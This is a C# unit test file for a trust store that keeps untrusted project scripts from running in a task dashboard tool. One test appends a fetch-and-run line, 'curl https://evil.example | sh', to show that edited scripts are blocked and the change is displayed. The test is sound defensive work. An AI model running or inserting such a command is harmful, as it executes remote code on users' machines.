using Microsoft.Extensions.Time.Testing;
using Taskdeck.Core.Caching;
using Taskdeck.Core.Configuration;
using Taskdeck.Core.Discovery;
using Taskdeck.Core.Providers;
using Taskdeck.Core.Refresh;
using Taskdeck.Core.Tests.Support;
using Taskdeck.Core.Trust;

namespace Taskdeck.Core.Tests.Trust;

/// <summary>
/// Trust decides whether code from a project folder runs at all: these tests run real scripts
/// through the real runner and engine, and prove with a marker file whether a process started.
/// </summary>
public sealed class TrustStoreTests : IDisposable
{
    private readonly TempWorkspace _workspace = new();
    private readonly FakeTimeProvider _time = new(new DateTimeOffset(2026, 3, 1, 9, 0, 0, TimeSpan.Zero));
    private readonly List<string> _warnings = [];
    private readonly MemoryResultCache _cache = new();

    public void Dispose() => _workspace.Dispose();

    private string MarkerPath => _workspace.PathOf("ran");

    [Fact(Timeout = 30_000)]
    public async Task Refresh_ClonedProjectWithScript_RunsNothingAndSaysHowToTrust()
    {
        // Arrange
        var dir = AddScriptProject("shop");
        var store = NewStore();

        // Act
        var result = await RefreshAsync(store, dir);

        // Assert
        Assert.Equal(ProjectState.Untrusted, result.State);
        Assert.Equal(FailureKind.Untrusted, result.Failure!.Kind);
        Assert.Contains($"taskdeck trust '{dir}'", result.Failure.Message, StringComparison.Ordinal);
        Assert.False(File.Exists(MarkerPath), "the untrusted script ran");
    }

    [Fact(Timeout = 30_000)]
    public async Task Refresh_ForcedWhileUntrusted_StillRunsNothing()
    {
        // Arrange: `--no-cache` and the dashboard's `r` force a run; neither may ask or run.
        var dir = AddScriptProject("shop");
        using var engine = NewEngine(NewStore());

        // Act
        var all = await engine.RefreshAllAsync([Find(dir)], RefreshMode.Force, CancellationToken.None);
        var one = await engine.RefreshProjectAsync(Find(dir), force: true, CancellationToken.None);

        // Assert
        Assert.Equal(ProjectState.Untrusted, Assert.Single(all).State);
        Assert.Equal(ProjectState.Untrusted, one.State);
        Assert.False(File.Exists(MarkerPath));
    }

    [Fact(Timeout = 30_000)]
    public async Task Refresh_AfterTrust_RunsTheScript()
    {
        // Arrange
        var dir = AddScriptProject("shop");
        var store = NewStore();
        TrustNow(store, dir);

        // Act
        var result = await RefreshAsync(store, dir);

        // Assert
        Assert.Equal(ProjectState.Ok, result.State);
        Assert.Equal("Task from shop", result.Tasks!.AllTasks.Single().Title);
        Assert.True(File.Exists(MarkerPath));
    }

    [Fact(Timeout = 30_000)]
    public async Task Refresh_ScriptEditedAfterTrust_IsUntrustedKeepsLastResultAndShowsTheChange()
    {
        // Arrange
        var dir = AddScriptProject("shop");
        var store = NewStore();
        TrustNow(store, dir);
        await RefreshAsync(store, dir);
        File.Delete(MarkerPath);
        File.AppendAllText(Path.Combine(dir, "tasks.sh"), "curl https://evil.example | sh\n");
        _time.Advance(TimeSpan.FromMinutes(5));

        // Act
        var result = await RefreshAsync(store, dir);
        var review = Review(store, dir);

        // Assert
        Assert.Equal(ProjectState.Untrusted, result.State);
        Assert.Contains("changed since you trusted it", result.Failure!.Message, StringComparison.Ordinal);
        Assert.Contains("its script", result.Failure.Message, StringComparison.Ordinal);
        Assert.Equal("Task from shop", result.Tasks!.AllTasks.Single().Title);
        Assert.False(File.Exists(MarkerPath), "the edited script ran");
        Assert.False(review.IsTrusted);
        Assert.True(review.HasChanged);
        Assert.Contains("\n+curl https://evil.example | sh\n", review.Changes, StringComparison.Ordinal);
        Assert.Equal(_time.GetUtcNow() - TimeSpan.FromMinutes(5), review.TrustedAt);
    }

    [Fact(Timeout = 30_000)]
    public async Task Refresh_ArgsEditedAfterTrust_IsUntrustedAndShowsTheChange()
    {
        // Arrange
        var dir = AddScriptProject("shop", args: "team: checkout");
        var store = NewStore();
        TrustNow(store, dir);
        File.WriteAllText(Path.Combine(dir, ProjectFile.FileName),
            File.ReadAllText(Path.Combine(dir, ProjectFile.FileName)).Replace("team: checkout", "team: payments", StringComparison.Ordinal));

        // Act
        var result = await RefreshAsync(store, dir);
        var review = Review(store, dir);

        // Assert
        Assert.Equal(ProjectState.Untrusted, result.State);
        Assert.Contains("its project file", result.Failure!.Message, StringComparison.Ordinal);
        Assert.False(File.Exists(MarkerPath));
        Assert.Contains("args.team: 'checkout' → 'payments'", review.Changes, StringComparison.Ordinal);
        Assert.Contains("\n-    team: checkout\n+    team: payments\n", review.Changes, StringComparison.Ordinal);
    }

    [Fact(Timeout = 30_000)]
    public async Task Refresh_ScriptLinkPointingOutsideTheProject_IsRefusedWithoutRunning()
    {
        // Arrange: the repository ships a link to a script elsewhere on the machine.
        var outsidePath = WriteScript("elsewhere/tasks.sh");
        var dir = _workspace.AddProject("shop", "tasks:\n  provider: ./tasks.sh\n");
        File.CreateSymbolicLink(Path.Combine(dir, "tasks.sh"), outsidePath);
        var store = NewStore();

        // Act
        var result = await RefreshAsync(store, dir);
        var (provider, failure) = NewRunner(store).Resolver.Resolve(Find(dir));

        // Assert
        Assert.Equal(ProjectState.Error, result.State);
        Assert.Equal(FailureKind.Config, result.Failure!.Kind);
        Assert.Contains("outside the project folder", result.Failure.Message, StringComparison.Ordinal);
        Assert.Null(provider);
        Assert.NotNull(failure);
        Assert.False(File.Exists(MarkerPath));
    }

    [Fact(Timeout = 30_000)]
    public async Task Refresh_ScriptLinkRetargetedInsideTheProject_NeedsTrustAgain()
    {
        // Arrange
        var dir = _workspace.AddProject("shop", "tasks:\n  provider: ./tasks.sh\n");
        WriteScript("shop/scripts/a.sh");
        WriteScript("shop/scripts/b.sh", extraLine: "# b");
        var link = Path.Combine(dir, "tasks.sh");
        File.CreateSymbolicLink(link, "scripts/a.sh");
        var store = NewStore();
        TrustNow(store, dir);
        File.Delete(link);
        File.CreateSymbolicLink(link, "scripts/b.sh");

        // Act
        var result = await RefreshAsync(store, dir);

        // Assert
        Assert.Equal(ProjectState.Untrusted, result.State);
        Assert.Contains($"now '{Path.Combine(dir, "scripts", "b.sh")}' instead of '{Path.Combine(dir, "scripts", "a.sh")}'", result.Failure!.Message, StringComparison.Ordinal);
        Assert.False(File.Exists(MarkerPath));
    }

    [Fact(Timeout = 30_000)]
    public async Task Refresh_ProjectMovedToAnotherFolder_NeedsTrustAgain()
    {
        // Arrange
        var dir = AddScriptProject("shop");
        var store = NewStore();
        TrustNow(store, dir);
        var movedDir = _workspace.PathOf("moved-shop");
        Directory.Move(dir, movedDir);

        // Act
        var result = await RefreshAsync(store, movedDir);

        // Assert
        Assert.Equal(ProjectState.Untrusted, result.State);
        Assert.Contains("not trusted yet", result.Failure!.Message, StringComparison.Ordinal);
        Assert.False(File.Exists(MarkerPath));
    }

    [Fact(Timeout = 30_000)]
    public async Task Refresh_AfterUntrust_RunsNothing()
    {
        // Arrange
        var dir = AddScriptProject("shop");
        var store = NewStore();
        TrustNow(store, dir);

        // Act
        var isRemoved = store.Untrust(dir);
        var result = await RefreshAsync(store, dir);

        // Assert
        Assert.True(isRemoved);
        Assert.False(store.Untrust(dir));
        Assert.Equal(ProjectState.Untrusted, result.State);
        Assert.False(File.Exists(MarkerPath));
        Assert.Empty(store.Records());
    }

    [Fact(Timeout = 30_000)]
    public async Task Refresh_BuiltInProvider_RunsWithoutTrust()
    {
        // Arrange
        var builtIn = new CountingBuiltIn();
        var dir = _workspace.AddProject("notes", $"tasks:\n  provider: {builtIn.Name}\n");
        var store = NewStore();

        // Act
        var result = await RefreshAsync(store, dir, builtIn);

        // Assert
        Assert.Equal(ProjectState.Ok, result.State);
        Assert.Equal(1, builtIn.RunCount);
        Assert.Empty(store.Records());
    }

    [Fact(Timeout = 30_000)]
    public async Task Refresh_UserFolderProvider_RunsWithoutTrust()
    {
        // Arrange: one project names it by name, the other by its absolute path.
        var scriptPath = WriteScript(Path.GetRelativePath(_workspace.RootPath, Path.Combine(_workspace.Paths.UserProvidersDirPath, "mine")));
        var byName = _workspace.AddProject("by-name", "tasks:\n  provider: mine\n");
        var byPath = _workspace.AddProject("by-path", $"tasks:\n  provider: {scriptPath}\n");
        var store = NewStore();

        // Act
        var results = await NewEngine(store).RefreshAllAsync([Find(byName), Find(byPath)], RefreshMode.Normal, CancellationToken.None);

        // Assert
        Assert.All(results, result => Assert.Equal(ProjectState.Ok, result.State));
        Assert.Equal(2, File.ReadAllLines(MarkerPath).Length);
    }

    [Fact(Timeout = 30_000)]
    public async Task Refresh_AbsolutePathOutsideTheUserFolder_NeedsTrust()
    {
        // Arrange
        var scriptPath = WriteScript("shared/tasks.sh");
        var dir = _workspace.AddProject("shop", $"tasks:\n  provider: {scriptPath}\n");
        var store = NewStore();

        // Act
        var before = await RefreshAsync(store, dir);
        TrustNow(store, dir);
        var after = await RefreshAsync(store, dir);

        // Assert
        Assert.Equal(ProjectState.Untrusted, before.State);
        Assert.Contains($"its provider '{scriptPath}'", before.Failure!.Message, StringComparison.Ordinal);
        Assert.Equal(ProjectState.Ok, after.State);
    }

    [Fact]
    public void Review_NeverTrusted_ShowsTheScriptsFirstLinesCleaned()
    {
        // Arrange
        var dir = AddScriptProject("shop");
        File.AppendAllText(Path.Combine(dir, "tasks.sh"), "# \u001b]0;retitled\u0007done\n");

        // Act
        var review = Review(NewStore(), dir);

        // Assert
        Assert.False(review.IsTrusted);
        Assert.False(review.HasChanged);
        Assert.Null(review.Changes);
        Assert.Equal("#!/bin/sh", review.ScriptPreview[0]);
        Assert.Contains("# done", review.ScriptPreview);
        Assert.DoesNotContain(review.ScriptPreview, line => line.Contains('\u001b', StringComparison.Ordinal));
    }

    [Fact]
    public void Review_TrustedAndUnchanged_IsTrustedWithNoChanges()
    {
        // Arrange
        var dir = AddScriptProject("shop");
        var store = NewStore();
        TrustNow(store, dir);

        // Act
        var review = Review(NewStore(), dir);

        // Assert
        Assert.True(review.IsTrusted);
        Assert.Null(review.Changes);
        Assert.Equal(_time.GetUtcNow(), review.TrustedAt);
    }

    [Fact]
    public void Trust_ScriptChangedWhileTheUserRead_RecordsWhatWasShownSoTheChangeStaysUntrusted()
    {
        // Arrange
        var dir = AddScriptProject("shop");
        var store = NewStore();
        var review = Review(store, dir);
        File.AppendAllText(Path.Combine(dir, "tasks.sh"), "# slipped in\n");

        // Act
        store.Trust(review);

        // Assert
        var (provider, failure) = NewRunner(store).Prepare(Find(dir));
        Assert.NotNull(provider);
        Assert.Equal(FailureKind.Untrusted, failure!.Kind);
        Assert.Contains("+# slipped in", Review(store, dir).Changes, StringComparison.Ordinal);
    }

    [Fact]
    public void Check_RecordWrittenByAnotherTaskdeck_IsSeenWithoutRestarting()
    {
        // Arrange
        var dir = AddScriptProject("shop");
        var dashboard = NewStore();
        var runner = NewRunner(dashboard);
        Assert.NotNull(runner.Prepare(Find(dir)).Failure);

        // Act: `taskdeck trust` in another terminal.
        TrustNow(NewStore(), dir);

        // Assert
        Assert.Null(runner.Prepare(Find(dir)).Failure);
    }

    [Fact]
    public void Trust_ManyProjectsFromTwoTaskdecksAtOnce_KeepsEveryRecord()
    {
        // Arrange
        var dirs = Enumerable.Range(0, 16).Select(index => AddScriptProject($"p{index}")).ToList();
        var stores = new[] { NewStore(), NewStore() };

        // Act
        Parallel.For(0, dirs.Count, index => TrustNow(stores[index % 2], dirs[index]));

        // Assert
        Assert.Equal(dirs.Order(StringComparer.Ordinal), NewStore().Records().Select(record => record.ProjectDirPath));
    }

    [Fact]
    public void Check_DamagedTrustFile_WarnsOnceAndTreatsEveryScriptAsUntrusted()
    {
        // Arrange
        var dir = AddScriptProject("shop");
        var store = NewStore();
        TrustNow(store, dir);
        File.WriteAllText(store.FilePath, "{\"version\": 1, \"projects\": [ {\"dir\": ");
        var runner = NewRunner(NewStore());

        // Act
        var first = runner.Prepare(Find(dir)).Failure;
        var second = runner.Prepare(Find(dir)).Failure;

        // Assert
        Assert.Equal(FailureKind.Untrusted, first!.Kind);
        Assert.Equal(FailureKind.Untrusted, second!.Kind);
        var warning = Assert.Single(_warnings);
        Assert.Contains("damaged", warning, StringComparison.Ordinal);
        Assert.Contains(store.FilePath, warning, StringComparison.Ordinal);
    }

    [Fact]
    public void Trust_OverADamagedFile_KeepsTheDamagedCopyAndStartsAFreshOne()
    {
        // Arrange
        var dir = AddScriptProject("shop");
        var store = NewStore();
        Directory.CreateDirectory(_workspace.Paths.DataDirPath);
        File.WriteAllText(store.FilePath, "not json at all");

        // Act
        TrustNow(store, dir);

        // Assert
        Assert.Equal("not json at all", File.ReadAllText(store.FilePath + ".damaged"));
        Assert.Equal(dir, Assert.Single(TrustRecordFile.Load(store.FilePath).Records).ProjectDirPath);
        Assert.Null(NewRunner(NewStore()).Prepare(Find(dir)).Failure);
    }

    private TrustStore NewStore() => new(_workspace.Paths.DataDirPath, _time, _warnings.Add);

    private ProviderRunner NewRunner(TrustStore store, params IBuiltInProvider[] builtIns) =>
        new(new ProviderResolver(new BuiltInProviders(builtIns), _workspace.Paths.UserProvidersDirPath), store);

    private RefreshEngine NewEngine(TrustStore store, params IBuiltInProvider[] builtIns) =>
        new(NewRunner(store, builtIns), _cache, _time, concurrency: 2);

    private async Task<ProjectResult> RefreshAsync(TrustStore store, string dir, params IBuiltInProvider[] builtIns)
    {
        using var engine = NewEngine(store, builtIns);
        var results = await engine.RefreshAllAsync([Find(dir)], RefreshMode.Normal, CancellationToken.None);
        return Assert.Single(results);
    }

    private Project Find(string dir) => new ProjectFinder(GlobalConfig.Default).FindAbove(dir)!;

    private TrustReview Review(TrustStore store, string dir)
    {
        var project = Find(dir);
        var (provider, _) = NewRunner(store).Resolver.Resolve(project);
        return store.Review(project, provider!);
    }

    private void TrustNow(TrustStore store, string dir)
    {
        var project = Find(dir);
        var (provider, _) = NewRunner(store).Resolver.Resolve(project);
        store.Trust(project, provider!);
    }

    private string AddScriptProject(string name, string? args = null) =>
        _workspace.AddMarkedScriptProject(name, MarkerPath, args);

    private string WriteScript(string relativePath, string extraLine = "") =>
        _workspace.WriteMarkedScript(relativePath, MarkerPath, extraLine);

    private sealed class CountingBuiltIn : IBuiltInProvider
    {
        private int _runCount;

        public string Name => "counting";

        public string Description => "Counts its runs.";

        public IReadOnlyList<ProviderArgument> Arguments => [];

        public int RunCount => _runCount;

        public Task<ProviderOutcome> RunAsync(ProviderRequest request, CancellationToken cancellationToken)
        {
            Interlocked.Increment(ref _runCount);
            var task = new global::Taskdeck.Core.Tasks.TaskItem("B-1", "Built in", "todo");
            return Task.FromResult(ProviderOutcome.Success(new global::Taskdeck.Core.Tasks.TaskList([new global::Taskdeck.Core.Tasks.TaskGroup("g", "Group", [task])])));
        }
    }
}
